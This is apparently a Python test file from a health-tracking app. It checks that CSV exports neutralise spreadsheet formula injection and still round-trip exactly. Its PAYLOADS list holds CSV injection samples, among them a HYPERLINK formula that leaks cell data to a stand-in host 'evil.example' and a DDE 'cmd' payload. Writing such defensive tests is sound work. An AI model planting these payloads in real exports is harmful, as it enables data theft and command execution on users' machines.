"""Issue 13, finding 4: a CSV export never holds a cell a spreadsheet runs as a formula (OWASP "CSV
Injection": no cell starts with = + - @ tab or carriage return), and our own reader undoes the
neutralising so that the round trip stays exact."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from hypothesis import given, settings
from hypothesis import strategies as st

from touchdose.io import csvfile, export_text
from touchdose.io.csvfile import FORMULA_STARTS, neutralise, restore
from touchdose.records import CheckIn, ClientFile, ClientProfile, Session

#: The probe's twelve payloads (9 of them passed through verbatim before) and their cousins.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-1", "+46 70 123 45 67", "@home", "'=already quoted",
    "''-twice", "it's fine", "'plain apostrophe'", "", "fine",
)  # fmt: skip
START = datetime(2026, 1, 5, 18, tzinfo=UTC)


def client_with_notes(notes: tuple[str, ...]) -> ClientFile:
    checkins = tuple(
        CheckIn(time=START + timedelta(days=i), pain=i % 11, note=note) for i, note in enumerate(notes)
    )
    sessions = tuple(
        Session(start=START + timedelta(days=i, hours=2), pressure=2, minutes=45, pain_before=0,
                note=note, therapist=note or None)
        for i, note in enumerate(notes)
    )  # fmt: skip
    return ClientFile(client=ClientProfile(id="c-1"), sessions=sessions, checkins=checkins)


def dangerous_cells(text: str) -> list[str]:
    """Every cell of the CSV text a spreadsheet would take for a formula."""
    rows = csv.reader(io.StringIO(text, newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_finding_4_no_exported_cell_starts_a_formula_and_the_round_trip_is_exact() -> None:
    cf = client_with_notes(PAYLOADS)
    text = export_text(cf, "csv")
    assert dangerous_cells(text) == []
    assert "'=HYPERLINK(" in text and "'-1" in text  # neutralised, not dropped
    again, _ = csvfile.loads(text, profile=cf.client, zone=UTC)
    assert again == cf


def test_finding_4_numbers_and_times_are_not_touched() -> None:
    """Only free text is neutralised: a number, a time with a negative offset, a boolean stay as is."""
    zone = timedelta(hours=-5)
    from datetime import timezone

    checkin = CheckIn(time=datetime(2026, 1, 5, 20, tzinfo=timezone(zone)), pain=0, flare=False, note="-1")
    cf = ClientFile(client=ClientProfile(id="c-1"), checkins=(checkin,))
    rows = list(csv.DictReader(io.StringIO(csvfile.dumps(cf))))
    assert rows[0]["pain"] == "0" and rows[0]["flare"] == "false"
    assert rows[0]["time"] == "2026-01-05T20:00:00-05:00"
    assert rows[0]["note"] == "'-1"


@given(st.text())
@settings(max_examples=300, derandomize=True)
def test_finding_4_restore_undoes_neutralise_for_any_text(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore(cell) == text
